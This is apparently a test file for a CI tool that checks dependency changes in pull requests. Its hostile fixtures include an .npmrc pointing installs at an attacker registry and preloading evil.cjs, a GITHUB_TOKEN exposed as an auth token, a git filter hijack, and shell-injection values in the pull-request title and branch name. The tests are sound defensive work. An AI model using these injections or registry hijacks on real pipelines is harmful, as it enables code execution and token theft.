import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';

import {
  mergeGroupCheckout,
  pullCheckout,
  pullTargetCheckout,
  type Checkout,
} from './support/fixture-repo.ts';
import type { Files } from './support/git.ts';
import { expectConsistent, expectJob, reportOf } from './support/expect-run.ts';
import { npmProject, uvProject } from './support/projects.ts';
import { sriOf, startRegistry, type LoopbackRegistry } from './support/registry.ts';
import { runAct, type ActRun } from './support/run-act.ts';
import { stepWorkflow, WORKFLOW } from './support/workflows.ts';

const snapshot = inject('snapshot');
const OLD = { name: 'tidy-text', version: '2.0.0' };
const NEW = { name: 'tidy-text', version: '2.1.0' };
const STILL = { name: 'quiet-log', version: '1.4.0' };
const GOOD = { name: 'litellm', version: '1.82.6' };
const BAD = { name: 'litellm', version: '1.82.8' };

let registry: LoopbackRegistry;
let attacker: LoopbackRegistry;
beforeAll(async () => {
  registry = await startRegistry({ npm: [OLD, NEW, STILL], python: [GOOD] });
  attacker = await startRegistry({ npm: [OLD, NEW, STILL], python: [GOOD, BAD] });
});
afterAll(async () => {
  await registry.close();
  await attacker.close();
});

function withWorkflow(files: Files): Files {
  return { ...files, [WORKFLOW]: stepWorkflow(snapshot) };
}

async function run(checkout: Checkout): Promise<ActRun> {
  return await runAct({ checkout, snapshot, workflow: WORKFLOW, env: registry.env });
}

describe('a pull request that updates one dependency of two', () => {
  let done: ActRun;
  let checkout: Checkout;
  beforeAll(async () => {
    checkout = pullCheckout({
      base: withWorkflow(npmProject(registry, [OLD, STILL])),
      head: npmProject(registry, [NEW, STILL]),
      baseLater: { 'README.md': 'Meanwhile.\n' },
    });
    done = await run(checkout);
  });

  it('passes, and lists only what changed', () => {
    expectJob(done, 'check', 'success');
    const report = reportOf(done);
    expect(report.run).toMatchObject({ scope: 'changes', base: checkout.base, head: checkout.sha });
    expect(report.changes).toHaveLength(1);
    expect(report.changes[0]).toMatchObject({
      kind: 'upgraded',
      name: 'tidy-text',
      from: '2.0.0',
      to: '2.1.0',
    });
    expectConsistent(done);
  });

  it('examines only that in depth', () => {
    const report = reportOf(done);
    expect(report.counts.judged).toBe(1);
    expect(registry.requests).toContain('/npm/tidy-text');
    expect(registry.requests).not.toContain('/npm/quiet-log');
  });

  it('leads the summary with the change', () => {
    const { summary } = done.step('countersign');
    expect(summary).toContain('tidy-text');
    expect(summary).toContain('2.1.0');
    expect(summary).not.toContain('quiet-log');
  });
});

it('compares in a checkout of two commits as well', async () => {
  const checkout = pullCheckout({
    base: withWorkflow(npmProject(registry, [OLD, STILL])),
    head: npmProject(registry, [NEW, STILL]),
    depth: 2,
  });
  const done = await run(checkout);
  expectJob(done, 'check', 'success');
  expect(reportOf(done).changes).toHaveLength(1);
});

it.each([0, 2])(
  'takes what the base gained meanwhile for no change of the pull request (fetch-depth %i)',
  async (depth) => {
    const checkout = pullCheckout({
      base: withWorkflow({ ...npmProject(registry, [OLD]), ...uvProject(registry, [BAD]) }),
      head: npmProject(registry, [NEW]),
      baseLater: uvProject(registry, [GOOD]),
      staleEvent: true,
      depth,
    });
    const done = await run(checkout);
    expectJob(done, 'check', 'success');
    expect(reportOf(done).changes.map(({ name }) => name)).toEqual(['tidy-text']);
  },
);

it('compares in a merge queue', async () => {
  const checkout = mergeGroupCheckout({
    base: withWorkflow(npmProject(registry, [OLD, STILL])),
    head: npmProject(registry, [NEW, STILL]),
  });
  const done = await run(checkout);
  expectJob(done, 'check', 'success');
  expect(reportOf(done).run.base).toBe(checkout.base);
  expect(reportOf(done).changes.map(({ name }) => name)).toEqual(['tidy-text']);
});

it('does not pass when the base is not there to compare with, and examines everything', async () => {
  const checkout = pullCheckout({
    base: withWorkflow(npmProject(registry, [OLD])),
    head: npmProject(registry, [NEW]),
    depth: 1,
  });
  const done = await run(checkout);
  expectJob(done, 'check', 'failure');
  const report = reportOf(done);
  expect(report.run.scope).toBe('everything');
  expect(report.exitCode).toBe(2);
  expect(JSON.stringify(report.problems)).toContain('fetch-depth');
});

it('a fork without a token is checked like any other', async () => {
  const checkout = pullCheckout({
    base: withWorkflow(uvProject(registry, [GOOD])),
    head: uvProject(registry, [BAD]),
    fork: true,
  });
  const done = await run(checkout);
  expectJob(done, 'check', 'failure');
  expect(reportOf(done).changes[0]).toMatchObject({
    name: 'litellm',
    from: '1.82.6',
    to: '1.82.8',
    verdict: 'fail',
  });
  expect(done.step('countersign').summary.split('\n')[0]).toContain('⛔');
  expect(done.artifacts.has('countersign')).toBe(true);
});

describe('a pull request that tries to weaken what judges it', () => {
  const weakened = `mode: audit
rules:
  known-malicious:
    level: off
  version-vanished:
    level: off
`;

  it('is judged by the policy of the base (F03)', async () => {
    const checkout = pullCheckout({
      base: withWorkflow({ ...uvProject(registry, [GOOD]), '.github/countersign.yml': 'mode: enforce\n' }),
      head: { ...uvProject(registry, [BAD]), '.github/countersign.yml': weakened },
    });
    const done = await run(checkout);
    expectJob(done, 'check', 'failure');
    const report = reportOf(done);
    expect(report.policy.mode).toBe('enforce');
    expect(report.policy.source).toContain(checkout.base?.slice(0, 12));
    expect(report.findings.map(({ rule }) => rule)).toContain('known-malicious');
  });

  it('is judged by the defaults when the base has no policy (F03)', async () => {
    const checkout = pullCheckout({
      base: withWorkflow(uvProject(registry, [GOOD])),
      head: { ...uvProject(registry, [BAD]), '.github/countersign.yml': weakened },
    });
    const done = await run(checkout);
    expectJob(done, 'check', 'failure');
    expect(reportOf(done).policy.mode).toBe('enforce');
  });

  it('is not judged by its own policy when the base cannot be read (F03)', async () => {
    const checkout = pullCheckout({
      base: withWorkflow(uvProject(registry, [GOOD])),
      head: { ...uvProject(registry, [BAD]), '.github/countersign.yml': weakened },
      depth: 1,
    });
    const done = await run(checkout);
    expectJob(done, 'check', 'failure');
    expect(reportOf(done).policy.mode).toBe('enforce');
    expect(reportOf(done).findings.map(({ rule }) => rule)).toContain('known-malicious');
  });

  it('cannot choose the registry that is asked (F04)', async () => {
    const steer: Files = {
      '.npmrc': `registry=${attacker.npm}/\nnode-options=--require ./evil.cjs\n//registry.example/:_authToken=\${GITHUB_TOKEN}\n`,
      'pip.conf': `[global]\nindex-url = ${attacker.python}\n`,
      'uv.toml': `index-url = "${attacker.python}"\n`,
      'evil.cjs':
        'require("node:fs").writeFileSync(process.env.RUNNER_TEMP + "/evil", "");\nthrow new Error("evil ran");\n',
    };
    const checkout = pullCheckout({
      base: withWorkflow({ ...uvProject(registry, [GOOD]), ...npmProject(registry, [OLD]) }),
      head: { ...uvProject(registry, [BAD]), ...npmProject(registry, [NEW]), ...steer },
    });
    const done = await run(checkout);
    expectJob(done, 'check', 'failure');
    expect(attacker.requests).toEqual([]);
    expect(done.text).not.toContain('evil ran');
    expect(reportOf(done).findings.map(({ rule }) => rule)).toContain('version-vanished');
  });

  it('runs nothing that its repository configures (F05)', async () => {
    const checkout = pullCheckout({
      base: withWorkflow(npmProject(registry, [OLD])),
      head: {
        ...npmProject(registry, [NEW]),
        '.gitattributes': '*.json filter=evil\n',
        'node_modules/.bin/git.sh': '#!/bin/sh\necho evil ran\nexit 1\n',
        'git.sh': '#!/bin/sh\necho evil ran\nexit 1\n',
      },
    });
    const done = await run(checkout);
    expectJob(done, 'check', 'success');
    expect(done.text).not.toContain('evil ran');
  });

  it('is stopped when it only swaps a digest', async () => {
    const base = npmProject(registry, [OLD]);
    const swapped = (base['package-lock.json'] as string).replace(/sha512-[^"]+/, sriOf(STILL));
    const checkout = pullCheckout({ base: withWorkflow(base), head: { 'package-lock.json': swapped } });
    const done = await run(checkout);
    expectJob(done, 'check', 'failure');
    const report = reportOf(done);
    expect(report.changes).toMatchObject([{ kind: 'rehashed', name: 'tidy-text' }]);
    expect(report.findings.map(({ rule }) => rule)).toContain('integrity-mismatch');
  });

  it('gains nothing by its title and its branch (G02)', async () => {
    const checkout = pullCheckout({
      base: withWorkflow(npmProject(registry, [OLD])),
      head: npmProject(registry, [NEW]),
      title: '"; echo evil ran; #\n::set-output name=verdict::pass',
      branch: '$(echo${IFS}evil${IFS}ran)',
      fork: true,
    });
    const done = await run(checkout);
    expectJob(done, 'check', 'success');
    expect(done.text).not.toMatch(/^\s*evil ran/m);
  });
});

describe('pull_request_target', () => {
  const base = (): Files => withWorkflow(uvProject(registry, [GOOD]));
  const head = (): Files => uvProject(registry, [BAD]);

  it('with the code of the pull request checked out is refused (G01)', async () => {
    const done = await run(
      pullTargetCheckout({ base: base(), head: head(), fork: true, checkedOut: 'head' }),
    );
    expectJob(done, 'check', 'failure');
    const [error] = done.step('countersign').annotations;
    expect(error?.message).toContain('pull_request_target');
    expect(done.step('countersign').outputs['verdict']).toBe('unknown');
    expect(done.artifacts.size).toBe(0);
  });

  it('with the base checked out is judged', async () => {
    const done = await run(pullTargetCheckout({ base: base(), head: head(), fork: true }));
    expect(done.step('countersign').outputs['verdict'], done.text).not.toBe('');
    expect(reportOf(done).findings.map(({ rule }) => rule)).not.toContain('known-malicious');
  });
});
